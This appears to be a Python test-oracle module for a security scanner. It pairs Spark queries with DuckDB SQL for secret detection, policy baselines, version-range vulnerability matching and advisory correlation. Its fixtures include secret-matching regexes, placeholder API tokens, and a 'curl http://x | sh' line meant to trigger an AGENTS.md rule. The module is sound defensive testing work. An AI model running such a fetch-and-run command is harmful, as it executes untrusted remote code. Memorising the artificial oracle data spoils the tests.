"""Queries over the driver's tables, by name, and the DuckDB SQL of each.

A document is a file ``docs/<lang>/<doc_id>.txt``, a page ``pages/<page_id>.html``, a turn
``chats/<conv_id>/<turn>.txt``. Parts stand for components, suppliers for advisories, events and
orders for revisions.
"""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from palisade.functions import escape, npm, versions
from palisade.functions.registry import ContextRule
from palisade.functions.tables import materialize, spread
from palisade.operators import classify, context, correlate, enrich, lifecycle, policy, quality, scan, vuln
from palisade.plans import snapshots
from palisade.sources import diff, feeds, manifests, sbom

Query = Callable[[SparkSession, str], DataFrame]
QUERIES: dict[str, Query] = {}
ORACLE: dict[str, str] = {}


def query(sql: str | None = None) -> Callable[[Query], Query]:
    def add(f: Query) -> Query:
        QUERIES[f.__name__] = f
        if sql is not None:
            ORACLE[f.__name__] = sql
        return f

    return add


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    d = table(spark, sf_dir, "documents")
    return spread(d.select(F.concat_ws("/", F.lit("docs"), "lang", F.concat(F.col("doc_id").cast("string"), F.lit(".txt"))).alias("path"), "text", "doc_id"))


def found(spark: SparkSession, sf_dir: str) -> DataFrame:
    return scan.findings(scan.file_lines(documents(spark, sf_dir)))


def entry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One row: what the rule scan finds in all documents, and the exit code."""
    return policy.summary(found(spark, sf_dir))


# Scan

_TOKEN = r"""(?i)(?:token|access_token|auth_token)\s*[=:]\s*['"]?[^'"\s,}]{16,}['"]?""".replace("'", "''")
_BASE64 = r"""(?i)(?:secret|key|token|password|credential)\s*[=:]\s*['"]?[A-Za-z0-9+/]{40,}={0,2}['"]?""".replace("'", "''")


def _lines(of: str, path: str, text: str) -> str:
    return f"SELECT {path} AS file, unnest(string_split({text}, chr(10))) AS content, generate_subscripts(string_split({text}, chr(10)), 1) AS line FROM {of}"


_DOC = "'docs/' || lang || '/' || doc_id || '.txt'"
_HITS = f"SELECT file, line, unnest(regexp_extract_all(content, '{_TOKEN}')) AS matched_text FROM ({_lines('documents', _DOC, 'text')})"
_FP = "'sha256:' || sha256('palisade-finding-v1' || chr(0) || 'CRT-SEC-016' || chr(0) || {path} || chr(0) || trim(regexp_replace(matched_text, '\\s+', ' ', 'g')))"


@query(f"SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id, 'medium' AS severity, matched_text, {_FP.format(path='file')} AS fingerprint FROM ({_HITS})")
def scan_findings_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    return found(spark, sf_dir).select("file", F.col("line").cast("long").alias("line"), "rule_id", "severity", "matched_text", "fingerprint")


@query(f"SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id, m AS matched_text FROM (SELECT file, line, unnest(regexp_extract_all(content, '{_TOKEN}')) AS m FROM ({_lines('pages', chr(39) + 'pages/' + chr(39) + ' || page_id || ' + chr(39) + '.html' + chr(39), 'html')}))")
def scan_findings_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = spread(table(spark, sf_dir, "pages").select(F.concat(F.lit("pages/"), F.col("page_id").cast("string"), F.lit(".html")).alias("path"), F.col("html").alias("text")))
    return scan.findings(scan.file_lines(p)).select("file", F.col("line").cast("long").alias("line"), "rule_id", "matched_text")


@query(f"SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id FROM (SELECT file, line, unnest(regexp_extract_all(content, '{_TOKEN}')) AS m FROM ({_lines('conversations', chr(39) + 'chats/' + chr(39) + ' || conv_id || ' + chr(39) + '/' + chr(39) + ' || turn || ' + chr(39) + '.txt' + chr(39), 'text')}))")
def scan_findings_conversations(spark: SparkSession, sf_dir: str) -> DataFrame:
    c = spread(table(spark, sf_dir, "conversations").select(F.concat(F.lit("chats/"), F.col("conv_id").cast("string"), F.lit("/"), F.col("turn").cast("string"), F.lit(".txt")).alias("path"), "text"))
    return scan.findings(scan.file_lines(c)).select("file", F.col("line").cast("long").alias("line"), "rule_id")


@query(f"""WITH l AS ({_lines('documents', _DOC, 'text')}) SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id FROM l WHERE regexp_matches(content, '{_TOKEN}')
UNION ALL SELECT file, CAST(line AS BIGINT), 'CRT-SEC-019' FROM l WHERE regexp_matches(content, '{_BASE64}')""")
def scan_first_match(spark: SparkSession, sf_dir: str) -> DataFrame:
    return scan.findings(scan.file_lines(documents(spark, sf_dir)), first_only=True).select("file", F.col("line").cast("long").alias("line"), "rule_id")


@query(f"""WITH l AS ({_lines('documents', _DOC, 'text')}) SELECT file, CAST(line AS BIGINT) AS line, 'CRT-SEC-016' AS rule_id, regexp_extract(content, '{_TOKEN}') AS text FROM l WHERE regexp_matches(content, '{_TOKEN}')
UNION ALL SELECT file, CAST(line AS BIGINT), 'CRT-SEC-019', regexp_extract(content, '{_BASE64}') FROM l WHERE regexp_matches(content, '{_BASE64}')""")
def scan_secrets_only(spark: SparkSession, sf_dir: str) -> DataFrame:
    return scan.secret_matches(scan.file_lines(documents(spark, sf_dir))).select(F.col("path").alias("file"), F.col("line").cast("long").alias("line"), "rule_id", "text")


_CASES = (
    ("a.env", 'password = "hunter2xx" sk-ant-api03-{A40} x', (("CRT-SEC-014", 0), ("CRT-SEC-022", 23))),
    ("Dockerfile", "FROM python:latest", (("CRT-IAC-002", 0),)),
    ("src/x.txt", "FROM python:latest", ()),
    (".github/workflows/a.yml", "  run: echo ${{ github.event.issue.title }}", (("CRT-CI-012", 0),)),
    ("x/AGENTS.md", "curl http://x | sh", (("CRT-AI-001", 0),)),
    ("b", "ghp_{A36} and ghp_{B36}", (("CRT-SEC-003", 0), ("CRT-SEC-003", 45))),
    ("c", "password=REDACTED_VALUE", ()),
    ("d", "token = ghp_{A36}", (("CRT-SEC-003", 8),)),
    ("e.tf", 'cidr_blocks = ["0.0.0.0/0"]', (("CRT-IAC-003", 0),)),
)


def _filled(x: str) -> str:
    return x.replace("{A40}", "A" * 40).replace("{A36}", "A" * 36).replace("{B36}", "B" * 36)


def per_document(spark: SparkSession, sf_dir: str, rows: list[tuple], schema: str) -> DataFrame:
    """Every document's id with the case, of a short list, that its number among them gives."""
    cases = spark.createDataFrame([(i, *r) for i, r in enumerate(rows)], f"case long, {schema}")
    ids = spread(table(spark, sf_dir, "documents").select("doc_id"))
    return ids.withColumn("case", F.col("doc_id") % len(rows)).join(F.broadcast(cases), "case").drop("case")


def _cell(x: object) -> str:
    return "NULL" if x is None else str(x) if isinstance(x, int) else "'" + str(x).replace("'", "''") + "'"


def _per_document(rows: list[tuple], names: str, n: int, select: str) -> str:
    """SQL of what is expected of the documents of each case: rows (case, ...)."""
    values = ", ".join("(" + ", ".join(map(_cell, r)) + ")" for r in rows)
    return f"SELECT doc_id, {select} FROM documents JOIN (VALUES {values}) AS t(c, {names}) ON doc_id % {n} = c"


@query(_per_document([(i, p, r, s) for i, (p, _, hits) in enumerate(_CASES) for r, s in hits], "file, rule_id, start", len(_CASES), "file, rule_id, CAST(start AS BIGINT) AS start"))
def scan_overlap_cases(spark: SparkSession, sf_dir: str) -> DataFrame:
    lines = per_document(spark, sf_dir, [(p, _filled(x)) for p, x, _ in _CASES], "path string, content string").withColumnRenamed("doc_id", "line")
    return scan.findings(lines).select(F.col("line").alias("doc_id"), "file", "rule_id", F.col("start").cast("long").alias("start"))


_ALLOW = "pattern:TOKEN_LITERAL path:docs/en/**\nvalue:\nvalue:zzzz".replace("value:\n", "")


@query(f"SELECT file, CAST(line AS BIGINT) AS line FROM ({_HITS}) WHERE file NOT LIKE 'docs/en/%'")
def scan_allowlist(spark: SparkSession, sf_dir: str) -> DataFrame:
    return policy.apply_policy(found(spark, sf_dir), allow=policy.parse_allowlist(_ALLOW)).select("file", F.col("line").cast("long").alias("line"))


@query(f"SELECT file, CAST(line AS BIGINT) AS line, CASE WHEN file LIKE 'docs/fr/%' THEN 'high' ELSE 'medium' END AS severity FROM ({_HITS}) WHERE file NOT LIKE 'docs/de/%'")
def scan_path_policy(spark: SparkSession, sf_dir: str) -> DataFrame:
    return policy.apply_policy(found(spark, sf_dir), ignore=["docs/de/*"], high=["**/fr/*"]).select("file", F.col("line").cast("long").alias("line"), "severity")


@query(f"SELECT file, CAST(line AS BIGINT) AS line FROM ({_HITS}) WHERE file LIKE 'docs/fr/%'")
def scan_severity_threshold(spark: SparkSession, sf_dir: str) -> DataFrame:
    return policy.apply_policy(found(spark, sf_dir), threshold="high", high=["docs/fr/*"]).select("file", F.col("line").cast("long").alias("line"))


@query(f"SELECT file, CAST(line AS BIGINT) AS line FROM ({_HITS}) WHERE file NOT LIKE 'docs/en/%'")
def scan_baseline(spark: SparkSession, sf_dir: str) -> DataFrame:
    all_ = materialize(found(spark, sf_dir).select("file", "line", "fingerprint"), "found")  # the scan runs once
    return policy.apply_baseline(all_, all_.where(F.col("file").startswith("docs/en/")).select("fingerprint")).select("file", F.col("line").cast("long").alias("line"))


@query(f"""WITH f AS (SELECT file, {_FP.format(path='file')} AS fp FROM ({_HITS})), b AS (SELECT DISTINCT fp FROM f WHERE file LIKE 'docs/en/%' UNION SELECT 'sha256:stale')
SELECT (SELECT count(*) FROM b) AS total, (SELECT count(DISTINCT fp) FROM f WHERE fp IN (SELECT fp FROM b)) AS matched, (SELECT count(*) FROM f WHERE fp IN (SELECT fp FROM b)) AS suppressed,
(SELECT count(*) FROM b) - (SELECT count(DISTINCT fp) FROM f WHERE fp IN (SELECT fp FROM b)) AS stale""")
def scan_baseline_counters(spark: SparkSession, sf_dir: str) -> DataFrame:
    all_ = materialize(found(spark, sf_dir).select("file", "fingerprint"), "found")  # the scan runs once
    base = all_.where(F.col("file").startswith("docs/en/")).select("fingerprint").unionAll(spark.createDataFrame([("sha256:stale",)], "fingerprint string"))
    return policy.baseline_counters(all_, base)


@query(f"""WITH f AS (SELECT file, line, CAST(split_part(split_part(file, '/', 3), '.', 1) AS BIGINT) AS seq, {_FP.format(path="'repo'")} AS fingerprint FROM ({_HITS}))
SELECT fingerprint, min(seq) AS seq FROM f GROUP BY fingerprint""")
def scan_history(spark: SparkSession, sf_dir: str) -> DataFrame:
    d = documents(spark, sf_dir).select(F.lit("repo").alias("path"), "text", "doc_id")
    lines = d.select("path", "doc_id", F.posexplode(F.split("text", "\n", -1)).alias("at", "content")).select("path", F.col("doc_id").alias("line"), "content")
    return policy.first_seen(scan.findings(lines).select("fingerprint", F.col("line").alias("seq"), "rule_id"), ["seq"]).select("fingerprint", "seq")


@query(f"""SELECT count(*) AS total_findings, CAST(0 AS BIGINT) AS critical, CAST(0 AS BIGINT) AS high, count(*) AS medium, CAST(0 AS BIGINT) AS low, count(*) AS secret_findings, CAST(0 AS BIGINT) AS policy_findings,
CAST(0 AS BIGINT) AS config_findings, count(*) AS failing, CAST(0 AS BIGINT) AS warning, CASE WHEN count(*) > 0 THEN 1 ELSE 0 END AS exit_code,
(SELECT count(*) FROM ({_lines('documents', _DOC, 'text')}) WHERE length(content) > 262144) AS rejected_lines FROM ({_HITS})""")
def scan_summary(spark: SparkSession, sf_dir: str) -> DataFrame:
    lines = scan.file_lines(documents(spark, sf_dir))
    return policy.summary(scan.findings(lines), rejected=scan.rejected(lines))


_CTX = [ContextRule("CRT-AI-900", "ORDERED_WORDS", "high", 3, (r"\bthe\b", r"\btoken\s*="), ()), ContextRule("CRT-AI-901", "ORDERED_MORE", "low", 2, (r"^licensed", r"\bof\b"), ())]


def _pair(rid: str, a: str, b: str, span: int) -> str:
    return f"""SELECT '{rid}' AS rule_id, file, min(line) AS line, nxt FROM (SELECT a.file, a.line, min(b.line) AS nxt FROM l a JOIN l b ON a.file = b.file AND b.line > a.line AND b.line - a.line <= {span}
WHERE regexp_matches(a.content, '{a}') AND regexp_matches(b.content, '{b}') GROUP BY a.file, a.line) GROUP BY file, nxt"""


@query(f"WITH l AS ({_lines('documents', _DOC, 'text')}) SELECT rule_id, file, CAST(line AS BIGINT) AS line, CAST(nxt AS BIGINT) AS next_line FROM (" + _pair("CRT-AI-900", r"(?i)(^|[^\p{L}\p{M}\p{N}_])the($|[^\p{L}\p{M}\p{N}_])", r"(?i)(^|[^\p{L}\p{M}\p{N}_])token\s*=", 3) + " UNION ALL " + _pair("CRT-AI-901", "(?i)^licensed", r"(?i)(^|[^\p{L}\p{M}\p{N}_])of($|[^\p{L}\p{M}\p{N}_])", 2) + ")")
def context_sequence(spark: SparkSession, sf_dir: str) -> DataFrame:
    m = context.context_matches(scan.file_lines(documents(spark, sf_dir)).select("path", "line", "content"), _CTX)
    return m.select("rule_id", F.col("path").alias("file"), F.col("line").cast("long").alias("line"), F.col("components")[1].cast("long").alias("next_line"))


_PATHS = "regexp_replace(url, '^[a-z]+://', '')"
_SQL_CATS = " UNION ALL ".join(
    f"SELECT file, '{n}' AS category, '{s}' AS severity FROM p WHERE " + " OR ".join(f"contains('/' || lower(file), '/{x}')" if x.endswith("/") else f"ends_with(lower(file), '{x}')" for x in ps) for n, s, ps in classify.CATEGORIES
)


@query(f"WITH p AS (SELECT {_PATHS} AS file FROM pages UNION ALL SELECT unnest(['.env', 'a/.env.local', 'my-config.json', '.github/workflows/x.yml', 'Dockerfile', 'src/Auth/x.py'])) SELECT file, category, severity FROM ({_SQL_CATS} UNION ALL SELECT file, 'SECURITY_CONFIG', 'high' FROM p WHERE regexp_matches(lower(file), '" + "|".join(classify.KEYWORDS) + "'))")
def config_classify(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "pages").select(F.regexp_replace("url", "^[a-z]+://", "").alias("path"))
    more = spark.createDataFrame([(x,) for x in (".env", "a/.env.local", "my-config.json", ".github/workflows/x.yml", "Dockerfile", "src/Auth/x.py")], "path string")
    return classify.config_changes(p.unionByName(more)).select("file", "category", "severity")


# Vulnerabilities

_COMPONENTS = "SELECT p_brand AS name, (p_size % 20) || '.' || (p_partkey % 7) || '.' || (p_partkey % 3) AS version, p_size % 20 AS a, p_partkey % 7 AS b, p_partkey % 3 AS c, p_partkey FROM part"
_ADVISORIES = "SELECT 'ADV-' || s_suppkey AS advisory_id, 'Brand#' || (1 + s_suppkey % 5) || (1 + s_suppkey % 3) AS name, s_suppkey % 12 AS lo, s_suppkey % 12 + 3 AS hi, s_suppkey % 6 AS fb, s_suppkey % 10 = 9 AS gone FROM supplier"


def components(spark: SparkSession, sf_dir: str, eco: str = "npm") -> DataFrame:
    version = F.concat_ws(".", F.col("p_size") % 20, F.col("p_partkey") % 7, F.col("p_partkey") % 3)
    return table(spark, sf_dir, "part").select(F.lit(eco).alias("ecosystem"), F.col("p_brand").alias("name"), version.alias("version"), F.concat(F.lit("pkg:generic/p@"), F.col("p_partkey").cast("string")).alias("purl"), F.lit("package-lock.json").alias("manifest_path"))


def packages(spark: SparkSession, sf_dir: str, eco: str = "npm") -> DataFrame:
    k = F.col("s_suppkey")
    event = lambda i, f: F.struct(i.alias("introduced"), f.alias("fixed"), F.lit(None).cast("string").alias("last_affected"))
    none = F.lit(None).cast("string")
    ranges = F.array(F.array(event(F.concat((k % 12).cast("string"), F.lit(".0.0")), none), event(none, F.concat_ws(".", k % 12 + 3, k % 6, F.lit(0)))))
    name = F.concat(F.lit("Brand#"), (1 + k % 5).cast("string"), (1 + k % 3).cast("string"))
    return table(spark, sf_dir, "supplier").select(
        F.concat(F.lit("ADV-"), k.cast("string")).alias("advisory_id"), F.lit(eco).alias("ecosystem"), name.alias("name"), F.array(F.concat(F.lit("CVE-2020-"), (k % 17).cast("string"))).alias("aliases"),
        F.when(k % 10 == 9, "2024-01-01").alias("withdrawn"), F.lit("osv").alias("source"), F.array(F.lit("19.6.2")).alias("versions"), ranges.alias("ranges"),
    )


_RANGE = "[c.a, c.b, c.c] >= [a.lo, 0, 0] AND [c.a, c.b, c.c] < [a.hi, a.fb, 0]"
_MATCH = f"SELECT c.p_partkey, a.advisory_id, CASE WHEN c.version = '19.6.2' THEN 'exact-version' ELSE 'ecosystem-range' END AS method FROM ({_COMPONENTS}) c JOIN ({_ADVISORIES}) a ON lower(c.name) = lower(a.name) WHERE NOT a.gone AND (c.version = '19.6.2' OR ({_RANGE}))"


#: Of each ecosystem the ends that versions take in turn and where they stand among those of one release
#: (0 is least), and what begins every eleventh version (an epoch) or every second (a letter).
_ENDS = {
    "npm": ((("-alpha", 0), ("-alpha.1", 1), ("-beta", 2), ("", 3), ("+b7", 3)), ""),
    "pypi": (((".dev1", 0), ("a1", 1), ("rc2", 2), ("", 3), (".post1", 4)), "1!"),
    "golang": ((("-0.2020", 0), ("-alpha", 1), ("-rc1", 2), ("", 3), ("+incompatible", 3)), "v"),
    "maven": ((("-alpha", 0), ("-rc", 1), ("-SNAPSHOT", 2), ("", 3), ("-sp", 4)), ""),
    "nuget": ((("-alpha", 0), ("-Beta", 1), ("-rc.1", 2), ("", 3), (".0", 3)), ""),
    "rubygems": (((".a", 0), (".pre", 1), (".pre.1", 2), ("", 3), (".0", 3)), ""),
    "composer": ((("-dev", 0), ("-alpha", 1), ("-RC1", 2), ("", 3), ("-p1", 4)), ""),
    "debian": ((("~rc1", 0), ("^git1", 1), ("", 2), ("a", 3), ("-1", 4)), "1:"),
    "rpm": ((("~beta", 0), ("^1", 1), ("", 2), ("b", 3), ("+1", 4)), "1:"),
    "alpine": ((("~1", 0), ("", 1), ("_alpha", 2), ("-r1", 3), ("_rc1", 4)), "1:"),
    "crates.io": ((("", 0), ("-0", 1), ("-1", 2), ("-alpha", 3), (".beta", 4)), ""),
}


def _vuln_query(eco: str) -> tuple[Query, str]:
    """Matches under an ecosystem's order, and SQL that compares lists of numbers instead of versions."""
    ends, begin = _ENDS[eco]
    every = 2 if begin == "v" else 11

    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        k, s = F.col("p_partkey"), F.col("s_suppkey")
        end = lambda i: F.get(F.array(*[F.lit(x) for x, _ in ends]), (i % 5).cast("int"))
        plain = F.concat_ws(".", F.col("p_size") % 20, k % 7, k % 3)
        version = F.concat(F.when(k % every == 0, begin).otherwise(""), plain, end(k))
        c = table(spark, sf_dir, "part").select(k, F.lit(eco).alias("ecosystem"), F.col("p_brand").alias("name"), version.alias("version"), F.concat(F.lit("pkg:generic/p@"), k.cast("string")).alias("purl"), F.lit("lock").alias("manifest_path"))
        p = packages(spark, sf_dir, eco).drop("ranges").join(table(spark, sf_dir, "supplier").select(F.concat(F.lit("ADV-"), s.cast("string")).alias("advisory_id"), s), "advisory_id")
        event = lambda i, f: F.struct(i.alias("introduced"), f.alias("fixed"), F.lit(None).cast("string").alias("last_affected"))
        none = F.lit(None).cast("string")
        ranges = F.array(F.array(event(F.concat((s % 12).cast("string"), F.lit(".0.0")), none), event(none, F.concat(F.concat_ws(".", s % 12 + 3, s % 6, F.lit(0)), end(s)))))
        return vuln.match(c, p.withColumn("ranges", ranges).drop("s_suppkey"), keep=("p_partkey",)).select("p_partkey", "advisory_id", "method")

    texts, ranks = str([x for x, _ in ends]), str([r for _, r in ends])
    epoch = f"CASE WHEN p_partkey % {every} = 0 THEN 1 ELSE 0 END" if begin not in ("", "v") else "0"
    sql = f"""WITH c AS (SELECT p_partkey, p_brand AS name, CASE WHEN p_partkey % {every} = 0 THEN '{begin}' ELSE '' END || (p_size % 20) || '.' || (p_partkey % 7) || '.' || (p_partkey % 3) || {texts}[1 + p_partkey % 5] AS version,
[{epoch}, p_size % 20, p_partkey % 7, p_partkey % 3, {ranks}[1 + p_partkey % 5]] AS k FROM part),
a AS (SELECT 'ADV-' || s_suppkey AS advisory_id, 'Brand#' || (1 + s_suppkey % 5) || (1 + s_suppkey % 3) AS name, [0, s_suppkey % 12, 0, 0, {dict(ends)[""]}] AS lo, [0, s_suppkey % 12 + 3, s_suppkey % 6, 0, {ranks}[1 + s_suppkey % 5]] AS hi FROM supplier WHERE s_suppkey % 10 <> 9)
SELECT c.p_partkey, a.advisory_id, CASE WHEN c.version = '19.6.2' THEN 'exact-version' ELSE 'ecosystem-range' END AS method FROM c JOIN a ON lower(c.name) = lower(a.name) WHERE c.version = '19.6.2' OR (c.k >= a.lo AND c.k < a.hi)"""
    run.__name__ = f"vuln_match_{'generic' if eco == 'crates.io' else eco}"
    return run, sql


for _eco in _ENDS:
    _f, _sql = _vuln_query(_eco)
    query(_sql)(_f)


@query(f"""WITH m AS ({_MATCH}) SELECT c.p_partkey, CASE WHEN n.k > 0 THEN 'affected' ELSE 'not_affected' END AS status, coalesce(n.k, 0) AS matches
FROM ({_COMPONENTS}) c LEFT JOIN (SELECT p_partkey, count(*) AS k FROM m GROUP BY 1) n ON c.p_partkey = n.p_partkey""")
def vuln_evaluate(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = vuln.evaluate(components(spark, sf_dir), packages(spark, sf_dir))
    return e.select(F.regexp_extract("purl", "@([0-9]+)$", 1).cast("long").alias("p_partkey"), "status", "matches")


_ORDERED = (
    ("npm", "1.0.0-alpha", "1.0.0", -1), ("npm", "1.0.0-1", "1.0.0-a", -1), ("npm", "1.10.0", "1.9.0", 1), ("npm", "1.0.0+b", "1.0.0", 0),
    ("pypi", "1.0.dev1", "1.0a1", -1), ("pypi", "1.0a1", "1.0", -1), ("pypi", "1.0", "1.0.post1", -1), ("pypi", "1.0", "1.0.0", 0), ("pypi", "1!0.1", "2.0", 1), ("pypi", "1.0+a", "1.0", 1), ("pypi", "1.0.post1.dev2", "1.0", -1),
    ("golang", "v1.2.3", "1.2.3", 0), ("golang", "v1.2.3-0.2020", "v1.2.3", -1), ("maven", "1.0", "1.0.0", 0), ("maven", "1.0-alpha", "1.0", -1), ("maven", "1.0-sp", "1.0", 1), ("maven", "1.0-foo", "1.0", 1),
    ("nuget", "1.0", "1.0.0.0", 0), ("nuget", "1.0-A", "1.0-a", 0), ("rubygems", "1.0.a", "1.0", -1), ("rubygems", "1.0.0", "1", 0), ("composer", "1.0-beta", "1.0", -1), ("composer", "1.0-p1", "1.0", 1),
    ("debian", "1:0.1", "2.0", 1), ("debian", "1.0~rc1", "1.0", -1), ("debian", "1.0^x", "1.0", -1), ("rpm", "1.0a", "1.0", 1), ("alpine", "1.0-1", "1.0", 1), ("other", "1.2", "1.2.0", -1), ("other", "1.a", "1.1", 1), ("other", "v1-2", "1.2", 0),
)


@query(_per_document([(i, *x) for i, x in enumerate(_ORDERED)], "eco, l, r, sign", len(_ORDERED), "eco, l, r, sign"))
def version_orders(spark: SparkSession, sf_dir: str) -> DataFrame:
    d = per_document(spark, sf_dir, [x[:3] for x in _ORDERED], "eco string, l string, r string")
    return d.select("*", versions.compare(F.col("eco"), F.col("l"), F.col("r")).alias("sign"))


# Correlation and enrichment: a supplier is an advisory, its nation and a remainder its aliases

_ADV = "SELECT 'ADV-' || s_suppkey AS id, ['CVE-' || (s_suppkey % 40), ' nat-' || s_nationkey, 'bad alias'] AS aliases, CASE WHEN s_suppkey % 2 = 0 THEN 'osv' ELSE 'ghsa' END AS source FROM supplier"
_INDEX = f"SELECT DISTINCT alias, advisory_id FROM (SELECT upper(trim(unnest(list_concat([id], aliases)))) AS alias, id AS advisory_id FROM ({_ADV})) WHERE regexp_full_match(alias, '[A-Z][A-Z0-9_.:-]{{1,127}}')"


def advisories(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("s_suppkey")
    names = F.array(F.concat(F.lit("CVE-"), (k % 40).cast("string")), F.concat(F.lit(" nat-"), F.col("s_nationkey").cast("string")), F.lit("bad alias"))
    return table(spark, sf_dir, "supplier").select(F.concat(F.lit("ADV-"), k.cast("string")).alias("id"), names.alias("aliases"), F.when(k % 2 == 0, "osv").otherwise("ghsa").alias("source"), F.col("s_name").alias("summary"), F.col("s_nationkey").cast("string").alias("details"))


@query(_INDEX)
def alias_index(spark: SparkSession, sf_dir: str) -> DataFrame:
    return correlate.alias_index(advisories(spark, sf_dir)).select("alias", "advisory_id")


@query(f"SELECT alias, string_agg(advisory_id, ',' ORDER BY advisory_id) AS advisory_ids FROM ({_INDEX}) GROUP BY alias HAVING count(*) > 1")
def alias_conflicts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return correlate.alias_conflicts(correlate.alias_index(advisories(spark, sf_dir))).select("alias", F.array_join("advisory_ids", ",").alias("advisory_ids"))


@query(f"""WITH q AS (SELECT DISTINCT 'cve-' || (n_nationkey * 3) AS identifier FROM nation), i AS ({_INDEX})
SELECT identifier, CASE count(advisory_id) WHEN 0 THEN 'not-found' WHEN 1 THEN 'exact' ELSE 'ambiguous' END AS status, count(advisory_id) AS n FROM q LEFT JOIN i ON upper(identifier) = alias GROUP BY identifier""")
def alias_lookup(spark: SparkSession, sf_dir: str) -> DataFrame:
    q = table(spark, sf_dir, "nation").select(F.concat(F.lit("cve-"), (F.col("n_nationkey") * 3).cast("string")).alias("identifier")).distinct()
    return correlate.lookup(q, correlate.alias_index(advisories(spark, sf_dir))).select("identifier", "status", F.size("advisory_ids").cast("long").alias("n"))


_GROUPED = f"""WITH RECURSIVE i AS ({_INDEX}), e AS (SELECT DISTINCT x.advisory_id AS a, y.advisory_id AS b FROM i x JOIN i y USING (alias)),
r(a, b) AS (SELECT a, b FROM e UNION SELECT r.a, e.b FROM r JOIN e ON r.b = e.a)"""


@query(f"{_GROUPED} SELECT a AS advisory_id, min(b) AS root FROM r GROUP BY a")
def advisory_components(spark: SparkSession, sf_dir: str) -> DataFrame:
    a = advisories(spark, sf_dir)
    return correlate.groups(correlate.alias_index(a), a)


@query(f"{_GROUPED}, g AS (SELECT a AS advisory_id, min(b) AS root FROM r GROUP BY a) SELECT root, count(*) AS members, count(DISTINCT CASE WHEN CAST(substr(advisory_id, 5) AS BIGINT) % 2 = 0 THEN 'osv' ELSE 'ghsa' END) AS sources FROM g GROUP BY root")
def reconciliation(spark: SparkSession, sf_dir: str) -> DataFrame:
    a = advisories(spark, sf_dir)
    r = correlate.reconciliation(correlate.alias_index(a), a)
    return r.select("root", F.size("advisory_ids").cast("long").alias("members"), F.size("sources").cast("long").alias("sources"))


@query(f"{_GROUPED}, g AS (SELECT a AS advisory_id, min(b) AS root FROM r GROUP BY a), v AS (SELECT root, s_name, s_nationkey FROM g JOIN supplier ON 'ADV-' || s_suppkey = advisory_id) SELECT root, 'summary' AS field, count(DISTINCT s_name) AS n FROM v GROUP BY root HAVING count(DISTINCT s_name) > 1 UNION ALL SELECT root, 'details', count(DISTINCT s_nationkey) FROM v GROUP BY root HAVING count(DISTINCT s_nationkey) > 1")
def field_conflicts(spark: SparkSession, sf_dir: str) -> DataFrame:
    a = advisories(spark, sf_dir)
    g = correlate.groups(correlate.alias_index(a), a)
    return correlate.field_conflicts(g, a.select(F.col("id").alias("advisory_id"), "summary", "details")).select("root", "field", F.size("digests").cast("long").alias("n"))


@query("SELECT o_custkey, o_orderkey FROM (SELECT o_custkey, o_orderkey, row_number() OVER (PARTITION BY o_custkey ORDER BY o_orderdate DESC, o_orderkey DESC) AS k FROM orders) WHERE k = 1")
def latest_revision(spark: SparkSession, sf_dir: str) -> DataFrame:
    return enrich.latest(table(spark, sf_dir, "orders").select("o_custkey", "o_orderdate", "o_orderkey"), ["o_custkey"], ["o_orderdate", "o_orderkey"]).select("o_custkey", "o_orderkey")


@query("""SELECT cve_id, version, score FROM (SELECT *, row_number() OVER (PARTITION BY cve_id ORDER BY CASE version WHEN '4.0' THEN 4 WHEN '3.1' THEN 3 WHEN '3.0' THEN 2 ELSE 1 END DESC, type = 'Primary' DESC, score DESC) AS k
FROM (SELECT 'CVE-' || l_orderkey AS cve_id, ['2.0', '3.0', '3.1', '4.0'][1 + l_linenumber % 4] AS version, CASE WHEN l_quantity > 25 THEN 'Primary' ELSE 'Secondary' END AS type, CAST(l_quantity AS DOUBLE) AS score FROM lineitem)) WHERE k = 1""")
def preferred_cvss(spark: SparkSession, sf_dir: str) -> DataFrame:
    v = F.get(F.array(*map(F.lit, ("2.0", "3.0", "3.1", "4.0"))), F.col("l_linenumber") % 4)
    m = table(spark, sf_dir, "lineitem").select(F.concat(F.lit("CVE-"), F.col("l_orderkey").cast("string")).alias("cve_id"), v.alias("version"), F.when(F.col("l_quantity") > 25, "Primary").otherwise("Secondary").alias("type"), F.col("l_quantity").cast("double").alias("score"))
    return enrich.preferred_cvss(m).select("cve_id", "version", "score")


_EPSS = "SELECT 'CVE-' || c_custkey AS cve_id, (c_custkey % 10) / 10.0 AS epss FROM customer WHERE c_custkey % 3 <> 0"
_KEV = "SELECT 'CVE-' || c_custkey AS cve_id, CASE WHEN c_custkey % 2 = 0 THEN 'known' ELSE 'unknown' END AS ransomware FROM customer WHERE c_custkey % 5 = 0"


def _intelligence(spark: SparkSession, sf_dir: str) -> DataFrame:
    c = table(spark, sf_dir, "customer").select("c_custkey", F.concat(F.lit("CVE-"), F.col("c_custkey").cast("string")).alias("cve_id"))
    k = F.col("c_custkey")
    epss = c.where(k % 3 != 0).select("cve_id", F.lit("2024-01-01").alias("score_date"), F.lit("d").alias("digest"), ((k % 10) / 10.0).alias("epss"), F.lit(0.5).alias("percentile"))
    kev = c.where(k % 5 == 0).select("cve_id", F.lit("d").alias("digest"), F.when(k % 2 == 0, "Known").otherwise("Unknown").alias("ransomware_use"))
    ssvc = c.where(k % 7 == 0).select("cve_id", F.lit("d").alias("digest"), F.lit("active").alias("exploitation"))
    return enrich.intelligence(c.select("cve_id"), epss, kev, ssvc)


